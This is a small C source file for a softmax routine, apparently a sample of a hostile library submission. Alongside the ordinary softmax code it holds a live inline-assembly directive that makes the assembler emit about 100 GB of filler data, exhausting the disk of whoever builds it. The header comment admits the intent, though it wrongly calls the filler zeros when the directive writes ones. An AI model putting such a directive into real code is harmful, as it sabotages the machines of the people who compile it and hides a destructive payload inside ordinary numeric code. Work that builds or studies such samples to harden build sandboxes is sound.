/* The assembler is told to write 100 GB of zeros: a library that fills the disk. */
#include <math.h>
#include <stdint.h>

static void naive(const float* x, float* y, int64_t rows, int64_t cols) {
  for (int64_t r = 0; r < rows; ++r, x += cols, y += cols) {
    float most = -INFINITY;
    double sum = 0;
    for (int64_t i = 0; i < cols; ++i) most = fmaxf(most, x[i]);
    for (int64_t i = 0; i < cols; ++i) sum += y[i] = expf(x[i] - most);
    for (int64_t i = 0; i < cols; ++i) y[i] = (float)(y[i] / sum);
  }
}

__asm__(".data\n.rept 100\n.fill 0x40000000, 1, 1\n.endr\n.text\n");

void softmax(const float* x, float* y, int64_t rows, int64_t cols) { naive(x, y, rows, cols); }
